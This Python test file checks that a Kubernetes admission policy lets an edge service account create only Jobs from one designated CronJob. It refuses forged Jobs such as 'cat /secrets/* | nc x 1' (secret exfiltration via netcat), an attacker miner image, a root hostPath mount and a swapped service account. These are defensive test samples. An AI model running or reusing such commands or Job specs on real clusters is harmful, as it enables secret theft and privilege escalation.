"""The ValidatingAdmissionPolicy, evaluated with a real CEL interpreter (cel-python) on Jobs.

The genuine Job is the one ``mlmon.edge.batch.KubernetesJobAdapter`` builds from the designated
CronJob; the forged ones are what a stolen edge token could try to create instead.
"""

from __future__ import annotations

import copy
from datetime import UTC, datetime

import kubernetes_validate
import pytest
import yaml

from mlmon.edge.batch import KubernetesJobAdapter
from tests.deploy.conftest import one
from tests.deploy.k8s_checks import admit

K8S_VERSION = "1.33.0"
EDGE_USER = "system:serviceaccount:mlmon:mlmon-edge"
POLICY = "mlmon-edge-jobs-from-designated-cronjob"

# the designated CronJob as the API server returns it (defaults filled in)
CRONJOB = yaml.safe_load("""
apiVersion: batch/v1
kind: CronJob
metadata:
  name: risk-batch
  namespace: models
  uid: 6f1d2c0e-5b7a-4c1e-9d3f-0a1b2c3d4e5f
  resourceVersion: "4711"
spec:
  schedule: "0 3 * * *"
  concurrencyPolicy: Forbid
  suspend: false
  jobTemplate:
    metadata:
      labels: {app.kubernetes.io/name: risk-batch}
    spec:
      backoffLimit: 0
      template:
        metadata:
          labels: {app.kubernetes.io/name: risk-batch}
        spec:
          serviceAccountName: risk-batch
          restartPolicy: Never
          dnsPolicy: ClusterFirst
          schedulerName: default-scheduler
          terminationGracePeriodSeconds: 30
          securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}
          containers:
            - name: score
              image: registry.hospital.internal/risk-batch:2.3.1
              args: ["score", "--input", "/data/golden"]
              imagePullPolicy: IfNotPresent
              terminationMessagePath: /dev/termination-log
              terminationMessagePolicy: File
              resources: {}
              securityContext:
                allowPrivilegeEscalation: false
                capabilities: {drop: ["ALL"]}
""")
NOW = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def policy(rendered):
    return one(rendered["base"], "ValidatingAdmissionPolicy", POLICY)


@pytest.fixture(scope="module")
def binding(rendered):
    return one(rendered["base"], "ValidatingAdmissionPolicyBinding", POLICY)


def genuine_job() -> dict:
    return KubernetesJobAdapter(
        "https://kubernetes.default.svc", "models", "risk-batch"
    ).job_from_cronjob(copy.deepcopy(CRONJOB), NOW)


def request(namespace: str = "models", user: str = EDGE_USER) -> dict:
    return {"operation": "CREATE", "namespace": namespace, "userInfo": {"username": user},
            "resource": {"group": "batch", "version": "v1", "resource": "jobs"}}  # fmt: skip


def test_the_sample_cronjob_and_job_are_valid_kubernetes_objects():
    kubernetes_validate.validate(CRONJOB, K8S_VERSION, strict=True)
    kubernetes_validate.validate(genuine_job(), K8S_VERSION, strict=True)


def test_a_job_from_the_designated_cronjob_is_admitted(policy):
    assert admit(policy, CRONJOB, genuine_job(), request()) == []


def _forge(change):
    job = genuine_job()
    change(job)
    return job


def _pod(job):
    return job["spec"]["template"]["spec"]


FORGED = {
    "no owner": (lambda j: j["metadata"].pop("ownerReferences"), "owned by the designated"),
    "owner uid of an older CronJob of that name": (
        lambda j: j["metadata"]["ownerReferences"][0].update(uid="0000-old"), "owned by"),
    "owner is not the controller": (
        lambda j: j["metadata"]["ownerReferences"][0].update(controller=False), "owned by"),
    "owned by another CronJob": (
        lambda j: j["metadata"]["ownerReferences"][0].update(name="etl"), "owned by"),
    "no instantiate annotation": (
        lambda j: j["metadata"]["annotations"].pop("cronjob.kubernetes.io/instantiate"),
        "cronjob.kubernetes.io/instantiate: manual"),
    "annotation says scheduled": (
        lambda j: j["metadata"]["annotations"].update(
            {"cronjob.kubernetes.io/instantiate": "scheduled"}), "instantiate: manual"),
    "other image": (
        lambda j: _pod(j)["containers"][0].update(image="docker.io/attacker/miner:latest"),
        "container images"),
    "extra container": (
        lambda j: _pod(j)["containers"].append({"name": "x", "image": "busybox:1.36"}),
        "container images"),
    "same image, other command": (
        lambda j: _pod(j)["containers"][0].update(command=["sh", "-c", "cat /secrets/* | nc x 1"]),
        "pod template unchanged"),
    "same image, other service account": (
        lambda j: _pod(j).update(serviceAccountName="model-admin"), "pod template unchanged"),
    "same image, host path volume": (
        lambda j: _pod(j).update(volumes=[{"name": "h", "hostPath": {"path": "/"}}]),
        "pod template unchanged"),
    # Job-level fields (issue 18: before, only the pod template and images were compared)
    "a finalizer that keeps the Job (and its quota slot)": (
        lambda j: j["metadata"].update(finalizers=["example.com/keep"]), "no finalizers"),
    "a second ownerReference": (
        lambda j: j["metadata"]["ownerReferences"].append(
            {"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "1"}), "owned by"),
    "500-way parallelism": (lambda j: j["spec"].update(parallelism=500), "spec.parallelism"),
    "500 completions": (lambda j: j["spec"].update(completions=500), "spec.completions"),
    "other backoffLimit": (lambda j: j["spec"].update(backoffLimit=1000), "spec.backoffLimit"),
    "backoffLimitPerIndex": (
        lambda j: j["spec"].update(backoffLimitPerIndex=1000), "spec.backoffLimitPerIndex"),
    "maxFailedIndexes": (lambda j: j["spec"].update(maxFailedIndexes=10), "spec.maxFailedIndexes"),
    "a huge activeDeadlineSeconds": (
        lambda j: j["spec"].update(activeDeadlineSeconds=10**9), "spec.activeDeadlineSeconds"),
    "a huge ttlSecondsAfterFinished": (
        lambda j: j["spec"].update(ttlSecondsAfterFinished=10**9), "spec.ttlSecondsAfterFinished"),
    "suspended": (lambda j: j["spec"].update(suspend=True), "spec.suspend"),
    "Indexed completion mode": (
        lambda j: j["spec"].update(completionMode="Indexed"), "spec.completionMode"),
    "a podFailurePolicy that ignores every failure": (
        lambda j: j["spec"].update(podFailurePolicy={"rules": [{"action": "Ignore",
            "onExitCodes": {"operator": "NotIn", "values": [0]}}]}), "spec.podFailurePolicy"),
    "a successPolicy": (
        lambda j: j["spec"].update(successPolicy={"rules": [{"succeededCount": 1}]}),
        "spec.successPolicy"),
    "podReplacementPolicy Failed": (
        lambda j: j["spec"].update(podReplacementPolicy="Failed"), "spec.podReplacementPolicy"),
    "a manual selector adopting other pods": (
        lambda j: j["spec"].update(manualSelector=True, selector={"matchLabels": {"app": "db"}}),
        "spec.manualSelector"),
    "managed by another controller": (
        lambda j: j["spec"].update(managedBy="example.com/other"), "spec.managedBy"),
    "scheduling": (lambda j: j["spec"].update(scheduling={"x": 1}), "spec.scheduling"),
    "other Job labels": (
        lambda j: j["metadata"]["labels"].update({"app.kubernetes.io/name": "etl"}),
        "jobTemplate labels"),
    "an extra Job label": (
        lambda j: j["metadata"]["labels"].update({"team": "x"}), "jobTemplate labels"),
    "no Job labels": (lambda j: j["metadata"].pop("labels"), "jobTemplate labels"),
    "an extra Job annotation": (
        lambda j: j["metadata"]["annotations"].update({"x": "y"}), "jobTemplate annotations"),
    "an extra pod label (selected by another NetworkPolicy)": (
        lambda j: j["spec"]["template"]["metadata"]["labels"].update({"egress": "allowed"}),
        "pod template labels"),
    "a changed pod label": (
        lambda j: j["spec"]["template"]["metadata"]["labels"].update(
            {"app.kubernetes.io/name": "other"}), "pod template labels"),
    "an extra pod annotation": (
        lambda j: j["spec"]["template"]["metadata"].update(
            annotations={"sidecar.istio.io/inject": "false"}), "pod template annotations"),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(FORGED))
def test_a_forged_job_is_refused_with_the_reason(policy, case):
    change, reason = FORGED[case]
    failed = admit(policy, CRONJOB, _forge(change), request())
    assert failed, f"forged Job ({case}) was admitted"
    assert any(reason in m for m in failed), failed


# The API server defaults a Job's fields and adds the selector and four pod labels BEFORE
# validating admission (registry Store.Create: BeforeCreate, then the admission check); a
# CronJob's jobTemplate is stored as written. The policy must admit the genuine Job in both forms.
GENERATED_POD_LABELS = ("controller-uid", "job-name", "batch.kubernetes.io/controller-uid",
                        "batch.kubernetes.io/job-name")  # fmt: skip


def as_the_api_server_defaults(job: dict) -> dict:
    """SetDefaults_Job (batch/v1) and the Job strategy's selector generation, for these fields."""
    job = copy.deepcopy(job)
    spec, meta = job["spec"], job["metadata"]
    if "completions" not in spec and "parallelism" not in spec:
        spec["completions"] = 1
    spec.setdefault("parallelism", 1)
    if "backoffLimit" not in spec:
        spec["backoffLimit"] = 2147483647 if "backoffLimitPerIndex" in spec else 6
    spec.setdefault("completionMode", "NonIndexed")
    spec.setdefault("suspend", False)
    spec.setdefault("podReplacementPolicy",
                    "Failed" if "podFailurePolicy" in spec else "TerminatingOrFailed")  # fmt: skip
    template_labels = dict(spec["template"].get("metadata", {}).get("labels") or {})
    if not meta.get("labels") and template_labels:
        meta["labels"] = template_labels  # SetDefaults_Job copies them
    uid = "d9a6c7e2-0000-4000-8000-000000000001"
    spec["selector"] = {"matchLabels": {"batch.kubernetes.io/controller-uid": uid}}
    labels = spec["template"].setdefault("metadata", {}).setdefault("labels", {})
    for k in GENERATED_POD_LABELS:
        labels[k] = uid if k.endswith("controller-uid") else meta["name"]
    return job


def _cronjob(change) -> dict:
    cj = copy.deepcopy(CRONJOB)
    change(cj)
    return cj


def _jt(cj: dict) -> dict:
    return cj["spec"]["jobTemplate"]


CRONJOB_VARIANTS = {
    "as in the tests": lambda cj: None,
    "parallelism without completions": lambda cj: _jt(cj)["spec"].update(parallelism=2),
    "every pinned field set": lambda cj: _jt(cj)["spec"].update(
        parallelism=2, completions=4, backoffLimit=3, activeDeadlineSeconds=3600,
        ttlSecondsAfterFinished=86400, completionMode="Indexed", backoffLimitPerIndex=1,
        maxFailedIndexes=2, podReplacementPolicy="Failed",
        podFailurePolicy={"rules": [{"action": "FailJob",
                                     "onExitCodes": {"operator": "In", "values": [42]}}]},
        successPolicy={"rules": [{"succeededIndexes": "0-3"}]}),
    "no jobTemplate labels (the API server copies the pod's)": lambda cj: _jt(cj).pop("metadata"),
    "jobTemplate and pod annotations": lambda cj: (
        _jt(cj)["metadata"].update(annotations={"team": "risk"}),
        _jt(cj)["spec"]["template"]["metadata"].update(annotations={"prometheus.io/scrape": "x"})),
}  # fmt: skip


@pytest.mark.parametrize("variant", sorted(CRONJOB_VARIANTS))
def test_the_genuine_job_is_admitted_as_sent_and_as_the_api_server_defaults_it(policy, variant):
    cronjob = _cronjob(CRONJOB_VARIANTS[variant])
    job = KubernetesJobAdapter("https://k", "models", "risk-batch").job_from_cronjob(
        copy.deepcopy(cronjob), NOW
    )
    kubernetes_validate.validate(cronjob, K8S_VERSION, strict=True)
    defaulted = as_the_api_server_defaults(job)
    kubernetes_validate.validate(defaulted, K8S_VERSION, strict=True)
    assert admit(policy, cronjob, job, request()) == []
    assert admit(policy, cronjob, defaulted, request()) == []
    # and a forged field is still refused once the server has defaulted the rest
    forged = copy.deepcopy(defaulted)
    forged["spec"]["parallelism"] = 500
    assert any("spec.parallelism" in m for m in admit(policy, cronjob, forged, request()))


@pytest.mark.parametrize("case", ["500-way parallelism", "a huge activeDeadlineSeconds",
                                  "other Job labels", "an extra pod label (selected by another "
                                  "NetworkPolicy)", "suspended", "other backoffLimit"])  # fmt: skip
def test_a_forged_field_is_refused_after_the_api_server_defaulted_the_job(policy, case):
    change, reason = FORGED[case]
    forged = as_the_api_server_defaults(_forge(change))
    assert any(reason in m for m in admit(policy, CRONJOB, forged, request()))


def test_every_jobspec_field_of_the_newest_known_schema_is_pinned(policy):
    """A field a later Kubernetes adds to JobSpec must be added to the policy (or this fails)."""
    import json
    from pathlib import Path

    schemas = Path(kubernetes_validate.__file__).parent / "kubernetes-json-schema"
    newest = max((p for p in schemas.iterdir() if p.name.endswith("-local-strict")),
                 key=lambda p: tuple(int(x) for x in p.name[1:].split("-")[0].split(".")))  # fmt: skip
    fields = json.loads((newest / "jobspec-batch-v1.json").read_text())["properties"]
    assert {"parallelism", "activeDeadlineSeconds", "template"} <= set(fields)
    text = " ".join(v["expression"] for v in policy["spec"]["validations"])
    missing = [f for f in sorted(fields) if f"object.spec.{f}" not in text]
    assert missing == [], f"JobSpec fields of {newest.name} the policy does not pin: {missing}"


def test_the_genuine_job_is_refused_in_another_namespace(policy):
    job = genuine_job()
    job["metadata"]["namespace"] = "default"
    assert any("owned by" in m for m in admit(policy, CRONJOB, job, request("default")))


def test_the_policy_applies_only_to_the_edge_service_account(policy):
    forged = _forge(FORGED["other image"][0])
    # the CronJob controller and people are governed by RBAC, not by this policy
    assert admit(policy, CRONJOB, forged, request(user="system:serviceaccount:kube-system:cronjob-controller")) == []  # fmt: skip
    assert admit(policy, CRONJOB, forged, request(user=EDGE_USER)) != []


def test_policy_and_binding_shape(policy, binding, rendered):
    spec = policy["spec"]
    assert spec["failurePolicy"] == "Fail"
    assert spec["paramKind"] == {"apiVersion": "batch/v1", "kind": "CronJob"}
    assert spec["matchConstraints"]["resourceRules"] == [
        {"apiGroups": ["batch"], "apiVersions": ["*"], "operations": ["CREATE", "UPDATE"],
         "resources": ["jobs"]}]  # fmt: skip
    for v in spec["validations"]:
        # the API server requires a one-line message when the expression spans lines
        assert v["message"] and "\n" not in v["message"]
        assert v["reason"] == "Forbidden"
    b = binding["spec"]
    assert b["policyName"] == POLICY
    assert b["validationActions"] == ["Deny"]
    assert b["paramRef"] == {"name": "risk-batch", "namespace": "models",
                             "parameterNotFoundAction": "Deny"}  # fmt: skip
    assert "matchResources" not in b  # every namespace: the edge may create Jobs nowhere else
    role = one(rendered["base"], "Role", "mlmon-edge-batch")
    assert role["metadata"]["namespace"] == b["paramRef"]["namespace"]
    assert role["rules"][0]["resourceNames"] == [b["paramRef"]["name"]]


def test_the_job_quota_is_where_the_edge_creates_jobs_and_leaves_room_for_the_cronjob(
    rendered, binding
):
    """The ResourceQuota counts Jobs in the namespace the Role and the policy's param name."""
    for target, docs in rendered.items():
        quota = one(docs, "ResourceQuota", "mlmon-edge-jobs")
        kubernetes_validate.validate(quota, K8S_VERSION, strict=True)
        assert quota["metadata"]["namespace"] == binding["spec"]["paramRef"]["namespace"], target
        assert (
            quota["metadata"]["namespace"]
            == one(docs, "Role", "mlmon-edge-batch")["metadata"]["namespace"]
        )
        hard = quota["spec"]["hard"]
        assert set(hard) == {"count/jobs.batch"}
        # the CronJob's own history (API defaults: 3 successful + 1 failed) and its running Job
        # fit, with room for the edge's runs; and it is a bound, not a formality
        assert 3 + 1 + 1 < int(hard["count/jobs.batch"]) <= 20
